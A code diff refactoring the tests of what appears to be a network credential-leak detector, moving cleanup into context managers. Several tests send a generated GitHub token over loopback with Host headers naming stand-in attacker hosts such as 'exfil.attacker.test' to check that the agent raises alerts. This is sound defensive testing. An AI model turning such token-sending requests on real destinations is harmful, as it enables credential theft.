@@ -1,7 +1,6 @@
 # SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
 """Outbound TCP: credentials in what processes send, attributed to the destination."""
 import os
-import shutil
 import socket
 import ssl
 import subprocess
@@ -10,9 +9,9 @@ import tempfile
 import threading
 import time
 
-from cwtest import (Agent, BufferedWriter, LoopbackServer, assert_copying_stopped, conn_entry,
-                    github_token, h2_frame, h2_streams, hpack_literal, kernel_map, require_root,
-                    wait_until)
+from cwtest import (BufferedWriter, LoopbackServer, assert_copying_stopped, bytes_sent,
+                    child_process, conn_entry, github_token, h2_frame, h2_streams, hpack_literal,
+                    kernel_map, require_root, running_agent, wait_until)
 
 
 class Sink(LoopbackServer):
@@ -55,17 +54,12 @@ def egress(lines, port):
 
 def test_unexpected_destination_alert_and_allowed_destination_observation():
     require_root()
-    sink = Sink()
-    agent = Agent("--include-loopback", "--events")
     token = github_token()
-    try:
+    with Sink() as sink, running_agent("--include-loopback", "--events") as agent:
         send_request(sink.port, "api.github.com", token)
         send_request(sink.port, "collector.attacker.test", token)
         hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port,
                               count=2)
-    finally:
-        agent.stop()
-        sink.close()
     assert len(hits) == 2, agent.lines
     ok, bad = hits
     assert ok["event"]["action"] == "credential-sent" and ok["event"]["kind"] == "event"
@@ -90,15 +84,10 @@ def one_token_alert(send, *agent_args):
     fresh token to the sink. Asserts exactly that token is alerted on, and never in
     plaintext; returns the stopped agent."""
     require_root()
-    sink = Sink()
-    agent = Agent("--include-loopback", *agent_args)
     token = github_token()
-    try:
+    with Sink() as sink, running_agent("--include-loopback", *agent_args) as agent:
         send(sink.port, token)
         hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
-    finally:
-        agent.stop()
-        sink.close()
     assert len(hits) == 1, agent.lines
     assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
     agent.assert_no_plaintext(token)
@@ -125,46 +114,36 @@ def test_token_split_across_the_iovecs_of_sendmsg_and_writev():
 
 def test_ipv6_loopback_connection():
     require_root()
-    s6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
-    s6.bind(("::1", 0))
-    s6.listen(4)
-    port = s6.getsockname()[1]
-
-    def serve():
-        c, _ = s6.accept()
-        with c:
-            c.recv(65536)
-            c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
-    t = threading.Thread(target=serve, daemon=True)
-    t.start()
-    agent = Agent("--include-loopback")
     token = github_token()
-    try:
-        send_request(port, "exfil.attacker.test", token, family=socket.AF_INET6, addr="::1")
-        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == port)
-    finally:
-        agent.stop()
-        s6.close()
+    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s6:
+        s6.bind(("::1", 0))
+        s6.listen(4)
+        port = s6.getsockname()[1]
+
+        def serve():
+            c, _ = s6.accept()
+            with c:
+                c.recv(65536)
+                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
+        threading.Thread(target=serve, daemon=True).start()
+        with running_agent("--include-loopback") as agent:
+            send_request(port, "exfil.attacker.test", token, family=socket.AF_INET6,
+                         addr="::1")
+            hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == port)
     assert len(hits) == 1, agent.lines
     assert hits[0]["destination"]["ip"] == "::1"
 
 
 def test_loopback_is_not_watched_by_default():
     require_root()
-    sink = Sink()
-    agent = Agent("--events")
     token = github_token()
-    try:
+    with Sink() as sink, running_agent("--events") as agent:
         send_request(sink.port, "exfil.attacker.test", token)
         # A marker after it: once the marker's argv alert is out, the request was processed.
         marker = github_token()
-        import subprocess
         p = subprocess.Popen(["/bin/true", marker])
         p.wait()
         assert agent.wait_for(lambda l: l["process"]["pid"] == p.pid)
-    finally:
-        agent.stop()
-        sink.close()
     assert not egress(agent.lines, sink.port), agent.lines
 
 
@@ -184,7 +163,7 @@ def _after_upload(size, send_next):
         s.recv(4096)
         s.close()
     agent = one_token_alert(send, "--payload-budget", "64K")
-    return int(agent.stderr().split(" bytes sent")[0].split()[-1])
+    return bytes_sent(agent)
 
 
 def test_budget_keeps_catching_headers_after_a_bulk_body():
@@ -274,18 +253,12 @@ def test_client_hello_after_an_empty_iovec_stops_capture():
     connection's start: the kernel looks at the first iovec with bytes in it, copies the
     ClientHello and nothing of the ciphertext that follows."""
     require_root()
-    agent = Agent("--include-loopback")
-    sink = Sink()
-    s = socket.create_connection(("127.0.0.1", sink.port))
-    try:
+    with (running_agent("--include-loopback") as agent, Sink() as sink,
+          socket.create_connection(("127.0.0.1", sink.port)) as s):
         s.sendmsg([b"", _client_hello()])
         for _ in range(16):
             s.sendmsg([b"", b"\x17\x03\x03" + os.urandom(16381)])
         entry = conn_entry(agent, s)
-    finally:
-        s.close()
-        agent.stop()
-        sink.close()
     assert_copying_stopped(entry)
 
 
@@ -309,7 +282,7 @@ def test_budget_catches_h2c_headers_that_start_a_large_write():
         time.sleep(0.2)
         s.close()
     agent = one_token_alert(send, "--payload-budget", "64K")
-    sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
+    sent = bytes_sent(agent)
     # the budget, then nothing of the 26 DATA writes past it: with a 1 KiB head of each it
     # would be past 90 KiB
     assert sent < (64 << 10) + 16384 + 4096, sent
@@ -347,7 +320,7 @@ def _h2c_after_upload(send_next, budget="64K", upload=30, lost=0):
     # followed from the preface to the end (other processes' streams may count too)
     followed, lost_track = h2_streams(agent)
     assert followed >= 1 and lost_track == lost, agent.stderr()
-    return int(agent.stderr().split(" bytes sent")[0].split()[-1])
+    return bytes_sent(agent)
 
 
 def test_budget_copies_a_header_block_split_into_headers_and_continuation():
@@ -464,7 +437,7 @@ def test_budget_follows_h2c_frames_across_writes_cut_anywhere():
         time.sleep(0.2)
         s.close()
     agent = one_token_alert(send, "--payload-budget", "64K")
-    sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
+    sent = bytes_sent(agent)
     # the budget and the HEADERS frame with the 1 KiB after it, not 236 KiB of DATA
     assert sent < (64 << 10) + 8192, sent
 
@@ -501,16 +474,6 @@ def _kernel_conns(agent):
     return {(e["key"]["tgid"], e["key"]["fd"]) for e in kernel_map(agent, "conns")}
 
 
-def _stop_all(child, agent, sink, tmpdir=None):
-    """A test's child (killed if it still runs), agent, sink and scratch directory."""
-    if child and child.poll() is None:
-        child.kill()
-    agent.stop()
-    sink.close()
-    if tmpdir:
-        shutil.rmtree(tmpdir)
-
-
 CONNECT_AND_DIE = r"""
 import os, socket, sys
 s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
@@ -527,12 +490,9 @@ def test_connection_of_a_process_that_exits_without_close_is_forgotten_in_the_ke
     the same pid and fd is not taken for that connection (and the write probes' filter slot
     comes down)."""
     require_root()
-    sink = Sink()
-    agent = Agent("--include-loopback")
-    child = None
-    try:
-        child = subprocess.Popen([sys.executable, "-c", CONNECT_AND_DIE, str(sink.port)],
-                                 stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    with (Sink() as sink, running_agent("--include-loopback") as agent,
+          child_process([sys.executable, "-c", CONNECT_AND_DIE, str(sink.port)],
+                        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as child):
         key = (child.pid, int(child.stdout.readline()))
         assert key in _kernel_conns(agent), "the connection was never tracked"
         child.stdin.write("\n")
@@ -540,8 +500,6 @@ def test_connection_of_a_process_that_exits_without_close_is_forgotten_in_the_ke
         child.wait()
         assert wait_until(lambda: key not in _kernel_conns(agent), 5), \
             "still tracked after the process ended"
-    finally:
-        _stop_all(child, agent, sink)
 
 
 CONNECT_AND_EXEC = r"""
@@ -579,32 +537,27 @@ def test_socket_closed_on_exec_is_not_taken_for_the_file_at_its_fd_number():
     writes to another file at the same fd number are not the connection's egress: no alert,
     and the kernel's entry is gone."""
     require_root()
-    sink = Sink()
-    agent = Agent("--include-loopback")
     token = github_token()
-    d = tempfile.mkdtemp()
-    with open(os.path.join(d, "token"), "w") as f:
-        f.write(token)
-    child = None
-    try:
-        child = subprocess.Popen(
-            [sys.executable, "-c", CONNECT_AND_EXEC, str(sink.port), WRITE_A_FILE_AT_THAT_FD,
-             os.path.join(d, "out.txt"), os.path.join(d, "token")],
-            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
-        assert child.stdout.readline().strip() == "connected"
-        assert (child.pid, 100) in _kernel_conns(agent), "the connection was never tracked"
-        child.stdin.write("exec\n")
-        child.stdin.flush()
-        assert child.stdout.readline().strip() == "written"
-        with open(os.path.join(d, "out.txt")) as f:
-            assert token in f.read()	# the write happened, at that fd
-        time.sleep(1.5)	# the agent drains every 100 ms
-        tracked = {k for k in _kernel_conns(agent) if k[0] == child.pid}
-        child.stdin.write("\n")
-        child.stdin.flush()
-        child.wait()
-    finally:
-        _stop_all(child, agent, sink, d)
+    with (Sink() as sink, running_agent("--include-loopback") as agent,
+          tempfile.TemporaryDirectory() as d):
+        with open(os.path.join(d, "token"), "w") as f:
+            f.write(token)
+        with child_process([sys.executable, "-c", CONNECT_AND_EXEC, str(sink.port),
+                            WRITE_A_FILE_AT_THAT_FD, os.path.join(d, "out.txt"),
+                            os.path.join(d, "token")],
+                           stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as child:
+            assert child.stdout.readline().strip() == "connected"
+            assert (child.pid, 100) in _kernel_conns(agent), "the connection was never tracked"
+            child.stdin.write("exec\n")
+            child.stdin.flush()
+            assert child.stdout.readline().strip() == "written"
+            with open(os.path.join(d, "out.txt")) as f:
+                assert token in f.read()	# the write happened, at that fd
+            time.sleep(1.5)	# the agent drains every 100 ms
+            tracked = {k for k in _kernel_conns(agent) if k[0] == child.pid}
+            child.stdin.write("\n")
+            child.stdin.flush()
+            child.wait()
     assert not egress(agent.lines, sink.port), agent.lines
     assert not tracked, tracked
     agent.assert_no_plaintext(token)
@@ -664,26 +617,22 @@ def test_process_whose_first_thread_exits_early_is_still_watched():
     """A process ends with its last thread: when main() calls pthread_exit, the connection
     another thread made is still tracked, and the token it sends later is alerted on."""
     require_root()
-    d = tempfile.mkdtemp()
-    sink = Sink()
-    agent = Agent("--include-loopback")
     token = github_token()
-    child = None
-    try:
+    with (tempfile.TemporaryDirectory() as d, Sink() as sink,
+          running_agent("--include-loopback") as agent):
         src, exe, tok = (os.path.join(d, n) for n in ("t.c", "t", "token"))
         with open(src, "w") as f:
             f.write(MAIN_THREAD_EXITS_FIRST)
         with open(tok, "w") as f:
             f.write(token)
         subprocess.run(["cc", "-O1", "-pthread", "-o", exe, src], check=True)
-        child = subprocess.Popen([exe, str(sink.port), tok], stdout=subprocess.PIPE, text=True)
-        fd = int(child.stdout.readline())	# its first thread left a second ago
-        time.sleep(0.3)	# the agent drains every 100 ms; the process lives 2 s more
-        assert (child.pid, fd) in _kernel_conns(agent), "forgotten while the process runs"
-        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
-        assert child.wait(timeout=30) == 0
-    finally:
-        _stop_all(child, agent, sink, d)
+        with child_process([exe, str(sink.port), tok], stdout=subprocess.PIPE,
+                           text=True) as child:
+            fd = int(child.stdout.readline())	# its first thread left a second ago
+            time.sleep(0.3)	# the agent drains every 100 ms; the process lives 2 s more
+            assert (child.pid, fd) in _kernel_conns(agent), "forgotten while the process runs"
+            hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
+            assert child.wait(timeout=30) == 0
     assert len(hits) == 1, agent.lines
     assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
     agent.assert_no_plaintext(token)
